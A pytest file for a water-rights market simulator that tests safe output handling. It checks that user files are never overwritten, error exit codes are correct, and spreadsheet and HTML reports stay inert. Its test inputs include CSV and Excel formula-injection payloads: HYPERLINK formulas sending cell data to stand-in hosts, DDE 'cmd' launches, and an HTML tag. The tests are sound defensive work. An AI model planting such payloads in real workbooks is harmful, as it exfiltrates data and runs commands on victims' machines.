"""Issue 11, the output side: no user file is ever deleted or replaced, leftovers of killed runs are cleaned
when safe, result folders have one kind of permissions, file-system errors are input errors (exit 2), and
text from outside never becomes a live formula in a workbook (nor raw HTML in a report).

Each test is named after the defect it reproduces, with the inputs of the issue where it gives them."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from conftest import cli_in_process
from rights_market import load_scenario, results, simulate, write_run
from rights_market.cli import main
from rights_market.compare import compare
from rights_market.compare.build import build_comparison
from rights_market.compare.inputs import Group
from rights_market.outdir import OutputError, clean_leftovers, staging_tag
from rights_market.report.xlsx import workbook_bytes

ROOT = Path(__file__).resolve().parents[2]
FAST = str(ROOT / "scenarios" / "teaching" / "smith1962_test1.yaml")
FIRMS = ROOT / "scenarios" / "data" / "dawukou_water_firms.yaml"
CLASSROOM = ROOT / "scenarios" / "classroom" / "water_market.yaml"
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "<b>bold</b> & co"]
CSV_NAMES = [n for n in EVIL if n[0] not in "\t\r"]  # the CSV reader strips spaces around a name


def rm(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The command's exit code and output, run in this process (:func:`conftest.cli_in_process`)."""
    return cli_in_process(*args, cwd=cwd)


def run_fast(out: Path, *extra: str, seed: int = 1) -> int:
    """``run smith1962_test1 --out OUT`` in this process; the exit code."""
    return main(["run", FAST, "--seed", str(seed), "--out", str(out), "--no-progress", *extra])


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (hidden ones too) with its content."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def fast_result():
    return simulate(load_scenario(FAST), seed=1)


# ------------------------------------------------------------------------------ no user file is lost
def test_run_out_refuses_folder_with_user_file(tmp_path: Path) -> None:
    """`mkdir -p d/mydir; echo x > d/mydir/thesis.txt; run ... --out d/mydir` deleted thesis.txt (exit 0)."""
    (tmp_path / "d" / "mydir").mkdir(parents=True)
    (tmp_path / "d" / "mydir" / "thesis.txt").write_text("x\n")
    p = rm("run", FAST, "--out", "d/mydir", "--no-progress", cwd=tmp_path)
    assert p.returncode == 2, p.stderr
    assert "d/mydir" in p.stderr and "not empty" in p.stderr and "--out" in p.stderr
    assert "internal error" not in p.stderr and "Traceback" not in p.stderr
    assert tree(tmp_path / "d") == {"mydir/thesis.txt": b"x\n"}  # nothing added, nothing hidden beside it
    p = rm("run", FAST, "--out", "d/mydir", "--overwrite", "--no-progress", cwd=tmp_path)
    assert p.returncode == 2 and tree(tmp_path / "d") == {"mydir/thesis.txt": b"x\n"}  # not ours: never


def test_run_out_file_is_not_hidden(tmp_path: Path) -> None:
    """`--out notes.txt` hid the file as `.old-notes.txt-xxxx`."""
    (tmp_path / "notes.txt").write_text("my notes\n")
    for extra in ([], ["--overwrite"]):
        p = rm("run", FAST, "--out", "notes.txt", "--no-progress", *extra, cwd=tmp_path)
        assert p.returncode == 2 and "notes.txt: a file of that name exists" in p.stderr, p.stderr
        assert sorted(os.listdir(tmp_path)) == ["notes.txt"]
        assert (tmp_path / "notes.txt").read_text() == "my notes\n"


def test_run_out_results_does_not_wipe_an_earlier_run_and_notes(tmp_path: Path) -> None:
    """`--out results` wiped an earlier run and a notes file."""
    assert run_fast(tmp_path / "results" / "earlier") == 0
    (tmp_path / "results" / "notes.md").write_text("what I saw\n")
    before = tree(tmp_path / "results")
    assert run_fast(tmp_path / "results") == 2
    assert tree(tmp_path / "results") == before
    # the earlier run itself is replaced only when asked
    assert run_fast(tmp_path / "results" / "earlier", seed=2) == 2
    assert tree(tmp_path / "results") == before


def test_run_out_overwrite_replaces_only_run_dirs(tmp_path: Path, capsys) -> None:
    out = tmp_path / "run"
    assert run_fast(out, seed=1) == 0
    assert run_fast(out, seed=2) == 2
    err = capsys.readouterr().err
    assert f"{out}: already holds a run directory" in err and "--overwrite" in err
    assert json.loads((out / "manifest.json").read_text())["seed"] == 1
    assert run_fast(out, "--overwrite", seed=2) == 0
    assert json.loads((out / "manifest.json").read_text())["seed"] == 2
    assert sorted(os.listdir(tmp_path)) == ["run"]  # no .old-* or .tmp-* left beside it
    # a folder that merely has a manifest.json of someone else's is not ours
    other = tmp_path / "other"
    other.mkdir()
    (other / "manifest.json").write_text('{"name": "my package"}')
    assert run_fast(other, "--overwrite") == 2
    assert tree(other) == {"manifest.json": b'{"name": "my package"}'}


def test_run_out_empty_folder_is_used(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert run_fast(tmp_path / "empty") == 0
    assert (tmp_path / "empty" / "manifest.json").is_file()


def test_run_out_dot_and_parents_are_refused_not_internal_errors(tmp_path: Path) -> None:
    """`--out .` gave "internal error" (exit 1); even an empty working folder is not a run directory."""
    here = tmp_path / "work"
    here.mkdir()
    for target in (".", "..", str(here)):
        p = rm("run", FAST, "--out", target, "--no-progress", cwd=here)
        assert p.returncode == 2, p.stderr
        assert "is the folder you are working in" in p.stderr and "internal error" not in p.stderr
    assert os.listdir(here) == [] and sorted(os.listdir(tmp_path)) == ["work"]


def test_write_run_api_has_the_same_policy(tmp_path: Path, fast_result) -> None:
    """`write_run(result, out, overwrite=False)`: the Python API refuses what the command refuses."""
    user = tmp_path / "mine"
    user.mkdir()
    (user / "thesis.txt").write_text("x")
    with pytest.raises(OutputError, match="not empty"):
        write_run(fast_result, user)
    with pytest.raises(OutputError, match="not empty"):
        write_run(fast_result, user, overwrite=True)
    assert tree(user) == {"thesis.txt": b"x"}
    out = write_run(fast_result, tmp_path / "run")
    with pytest.raises(OutputError, match="already holds a run directory"):
        write_run(fast_result, out)
    (out / "report.md").write_text("old")
    assert write_run(fast_result, out, overwrite=True) == out
    assert not (out / "report.md").exists() and (out / "manifest.json").is_file()


def test_replications_out_refuses_a_file_and_a_user_folder(tmp_path: Path) -> None:
    """`run --replications --out` already refused a non-empty folder; a file gave an internal error."""
    (tmp_path / "notes.txt").write_text("n")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.txt").write_text("x")
    for target in ("notes.txt", "mine"):
        code = main(["run", FAST, "--replications", "2", "--workers", "1", "--no-progress", "--out",
                     str(tmp_path / target)])
        assert code == 2
    assert tree(tmp_path) == {"notes.txt": b"n", "mine/thesis.txt": b"x"}


def test_store_of_another_study_is_replaced_only_with_overwrite(tmp_path: Path, capsys) -> None:
    store = tmp_path / "store"
    args = ["run", FAST, "--replications", "2", "--workers", "1", "--no-progress", "--out", str(store)]
    assert main([*args, "--seed", "1"]) == 0
    first = json.loads((store / "study.json").read_text())
    assert main([*args, "--seed", "1"]) == 0  # the same study: resumed, nothing redone or lost
    capsys.readouterr()
    assert main([*args, "--seed", "5"]) == 2
    assert "--overwrite" in capsys.readouterr().err
    assert json.loads((store / "study.json").read_text()) == first
    assert main([*args, "--seed", "5", "--overwrite"]) == 0
    again = json.loads((store / "study.json").read_text())
    assert again["design_hash"] != first["design_hash"] and len(list((store / "kpis").glob("*.parquet"))) == 2


def test_sweep_store_refuses_a_file(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("n")
    sweep = ROOT / "scenarios" / "sweeps" / "water_price_grid.yaml"
    p = rm("sweep", str(sweep), "--store", "notes.txt", "--workers", "1", "--no-progress", cwd=tmp_path)
    assert p.returncode == 2 and "notes.txt: is a file, not a folder for a results store" in p.stderr, p.stderr
    assert tree(tmp_path) == {"notes.txt": b"n"}


def test_compare_out_refuses_user_folder_and_overwrites_only_comparisons(tmp_path: Path) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    drawn = ["teaching.efficiency"]  # the folder rules do not depend on what is drawn: one indicator is enough
    assert run_fast(a, seed=1) == 0 and run_fast(b, seed=2) == 0
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "report.md").write_text("my report")
    with pytest.raises(OutputError, match="not empty"):
        compare([a, b], out_dir=mine, metrics=drawn)
    with pytest.raises(OutputError, match="not empty"):
        compare([a, b], out_dir=mine, overwrite=True, metrics=drawn)
    assert tree(mine) == {"report.md": b"my report"}
    out = tmp_path / "cmp"
    paths = compare([a, b], out_dir=out, metrics=drawn)
    assert paths["xlsx"].is_file() and json.loads((out / "comparison.json").read_text())["kind"] == "comparison"
    compare([a, b], out_dir=out, metrics=drawn)  # the same comparison again: resumed, no --overwrite needed
    with pytest.raises(OutputError, match="already holds a comparison"):
        compare([b, a], out_dir=out, metrics=drawn)
    assert main(["compare", str(b), str(a), "--out", str(out), "--no-progress", "--metric", drawn[0]]) == 2
    assert main(["compare", str(b), str(a), "--out", str(out), "--overwrite", "--no-progress",
                 "--metric", drawn[0]]) == 0
    with pytest.raises(OutputError, match="is a comparison directory, not a run directory"):
        write_run(simulate(load_scenario(FAST), seed=1), out, overwrite=True)


def test_classroom_out_refuses_user_folder(tmp_path: Path) -> None:
    from rights_market.classroom import ClassroomSession, load_classroom, write_session

    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("x")
    session = ClassroomSession(load_classroom(CLASSROOM), join_code="111")
    session.join("Li", "111")
    with pytest.raises(OutputError, match="not empty"):
        write_session(session, mine, report=False)
    assert tree(mine) == {"thesis.txt": b"x"}
    # the command refuses before the class starts, not when it is over
    p = rm("classroom", str(CLASSROOM), "--out", str(mine), "--port", "0")
    assert p.returncode == 2 and "not empty" in p.stderr, p.stderr


def test_report_refuses_a_folder_that_is_not_a_run(tmp_path: Path) -> None:
    (tmp_path / "thesis.txt").write_text("x")
    assert main(["report", str(tmp_path)]) == 2
    (tmp_path / "manifest.json").write_text('{"name": "my package"}')  # someone else's manifest
    assert main(["report", str(tmp_path)]) == 2
    assert tree(tmp_path) == {"thesis.txt": b"x", "manifest.json": b'{"name": "my package"}'}


# ------------------------------------------------------------------------------ leftovers, permissions
def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_killed_run_leftovers_are_cleaned_when_safe(tmp_path: Path, fast_result) -> None:
    """Hidden `.tmp-<name>-*` folders of killed runs were never cleaned."""
    host = staging_tag().split("-")[1]
    dead = _dead_pid()
    killed = tmp_path / f".tmp-run1-{dead}-{host}-0123abcd"
    replaced = tmp_path / f".old-run0-{dead}-{host}-0123abcd"
    half_file = tmp_path / f".report.md.{dead}-{host}-0123abcd.tmp"
    alive = tmp_path / f".tmp-run2-{os.getpid()}-{host}-0123abcd"  # a writer still at work
    elsewhere = tmp_path / f".tmp-run3-{dead}-ffffff-0123abcd" if host != "ffffff" else None
    old_style = tmp_path / ".tmp-run4-ab_cd123"
    fresh_old_style = tmp_path / ".tmp-run5-ab_cd456"
    user_hidden = tmp_path / ".tmp-my-notes"
    users_old_style = tmp_path / ".tmp-thesis-draft_01"  # named like a leftover, but holds the user's text
    for d in (killed, replaced, alive, old_style, fresh_old_style, user_hidden, elsewhere, users_old_style):
        if d is not None:
            d.mkdir()
            (d / "holders.parquet").write_bytes(b"half")
    (users_old_style / "chapter1.txt").write_text("mine")
    half_file.write_bytes(b"half")
    day_ago = time.time() - 2 * 24 * 3600
    os.utime(old_style, (day_ago, day_ago))
    os.utime(users_old_style, (day_ago, day_ago))
    write_run(fast_result, tmp_path / "run")
    left = set(os.listdir(tmp_path))
    assert killed.name not in left and replaced.name not in left and half_file.name not in left
    assert old_style.name not in left
    assert {alive.name, fresh_old_style.name, user_hidden.name, users_old_style.name, "run"} <= left
    if elsewhere is not None:
        assert elsewhere.name in left  # another machine's writer cannot be checked from here: kept
    assert clean_leftovers(tmp_path) == []


def test_result_folders_have_the_usual_permissions(tmp_path: Path, fast_result) -> None:
    """Run folders were 0700 while compare and sweep folders were not: all are now 0o777 less the umask."""
    old = os.umask(0o027)
    try:
        run = write_run(fast_result, tmp_path / "run")
        a = write_run(simulate(load_scenario(FAST), seed=2), tmp_path / "a")
        cmp = compare([a, run], out_dir=tmp_path / "cmp")["dir"]
        assert main(["run", FAST, "--replications", "2", "--workers", "1", "--no-progress", "--out",
                     str(tmp_path / "store")]) == 0
    finally:
        os.umask(old)
    runs = list((tmp_path / "store" / "runs").iterdir())
    for folder in [run, a, cmp, cmp / "figures", tmp_path / "store", *runs]:
        assert oct(folder.stat().st_mode & 0o777) == oct(0o750), folder


# ------------------------------------------------------------------------------ file-system errors
def test_file_system_errors_are_input_errors_not_internal(tmp_path: Path, monkeypatch, capsys) -> None:
    """A read-only or full disk gave "internal error" (exit 1)."""
    (tmp_path / "notes.txt").write_text("n")
    assert run_fast(tmp_path / "notes.txt" / "run") == 2
    err = capsys.readouterr().err
    assert "notes.txt" in err and "cannot write" in err and "internal error" not in err
    for code, hint in ((errno.ENOSPC, "the disk is full"), (errno.EROFS, "read-only"),
                       (errno.EACCES, "permission denied")):
        def failing(table, path, code=code):
            raise OSError(code, os.strerror(code), str(path))

        monkeypatch.setattr(results, "_write_table", failing)
        assert run_fast(tmp_path / "run") == 2
        err = capsys.readouterr().err
        assert f"error: {tmp_path / 'run'}: cannot write the results: {os.strerror(code)}" in err
        assert hint in err and "internal error" not in err
        assert sorted(os.listdir(tmp_path)) == ["notes.txt"]  # no half run, no staging folder left


def test_a_real_bug_is_still_an_internal_error(monkeypatch, capsys, tmp_path: Path) -> None:
    """Mapping file-system errors must not hide bugs: an OSError naming no file is not the user's."""
    import rights_market.engine.run as engine_run

    def broken(*args, **kwargs):
        raise OSError(errno.EINVAL, "Invalid argument")

    monkeypatch.setattr(engine_run, "RngTree", broken)
    assert run_fast(tmp_path / "run") == 1
    assert "internal error: OSError" in capsys.readouterr().err


# ------------------------------------------------------------------------------ formula injection
def _cells(path: Path) -> list:
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert(path: Path, texts: list[str]) -> None:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value for c in cells if isinstance(c.value, str)}
    for text in texts:
        assert text in found, (text, path)
    for c in cells:
        if isinstance(c.value, str) and c.value in texts:
            assert c.data_type == "s"


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Dawukou water market with two holder groups read from a CSV whose names are formulas."""
    root = tmp_path_factory.mktemp("evil")
    rows = [f'"{n.replace(chr(34), chr(34) * 2)}",{"industry" if i % 2 else "agriculture"},{100000 + i},9.5,1.05'
            for i, n in enumerate(CSV_NAMES)]
    (root / "evil.csv").write_text("name,sector,confirmed_m3,marginal_value_yuan_per_m3,need_share\n"
                                   + "\n".join(rows) + "\n", encoding="utf-8")
    out = root / "run"
    sets = ["calendar.years=1", "calendar.sessions_per_year=4", "water.groups.0.count=40",
            "water.groups.3.count=20", f"water.groups.1.from_file={root / 'evil.csv'}",
            f"water.groups.2.from_file={root / 'evil.csv'}"]
    args = ["run", str(FIRMS), "--out", str(out), "--report", "--no-progress"]
    for s in sets:
        args += ["--set", s]
    assert main(args) == 0
    return out


def test_formula_names_are_inert_in_report_xlsx(evil_run: Path) -> None:
    """Holder names from a `from_file:` CSV starting with `=` were written as live formulas."""
    names = set(pd.read_parquet(evil_run / "holders.parquet")["name"])
    assert set(CSV_NAMES) <= names  # read from the CSV exactly
    _assert_inert(evil_run / "report.xlsx", CSV_NAMES)


def test_formula_names_are_escaped_in_html_and_markdown(evil_run: Path) -> None:
    html = (evil_run / "report.html").read_text(encoding="utf-8")
    md = (evil_run / "report.md").read_text(encoding="utf-8")
    assert "<b>bold</b>" not in html and "<b>bold</b>" not in md


def test_formula_names_are_inert_in_compare_xlsx(tmp_path: Path) -> None:
    """Variant labels (names from outside) in compare.xlsx are text, never formulas."""
    groups = []
    for k, label in enumerate(EVIL[:4]):
        run_dir = tmp_path / f"g{k}"
        run_dir.mkdir()
        pd.DataFrame([{"time": float(y), "year": 2021 + y, "right": "water", "metric": "use",
                       "value": float(y + k), "unit": "m3"} for y in range(2)]).to_parquet(run_dir / "kpis.parquet")
        groups.append(Group(label, label, {"name": label}, f"{k:0<8}", [(run_dir, 0, 1)]))
    paths = build_comparison(groups, tmp_path / "cmp", metrics=["use"])
    _assert_inert(paths["xlsx"], EVIL[:4])
    assert "<b>" not in paths["html"].read_text(encoding="utf-8")


def test_formula_names_are_inert_in_classroom_report_xlsx(tmp_path: Path) -> None:
    """Classroom names typed by anyone with the join code were written as live formulas."""
    from rights_market.classroom import ClassroomSession, load_classroom, write_session

    session = ClassroomSession(load_classroom(CLASSROOM), join_code="111")
    typed = ['=HYPERLINK("http://e.x/?"&A1,"go")', "=cmd|' /C calc'!A0", "@SUM(1+1)"]
    for name in typed:
        session.join(name, "111")
    out = write_session(session, tmp_path / "class", report=True)
    _assert_inert(out / "report.xlsx", typed)


def test_workbook_text_cells_keep_their_text_exactly() -> None:
    import io

    texts = [*EVIL, "#N/A", "a\r\nb", " lead and trail ", "中文=公式"]
    data = workbook_bytes([("=sheet", pd.DataFrame({"=name": texts, "n": range(len(texts))}))],
                          notes={"=sheet": "=note"})
    wb = load_workbook(io.BytesIO(data))
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells if c.column == 1] == ["=note", "=name", *texts]
    assert all(c.data_type == "n" for c in cells if c.column == 2 and c.row > 3)
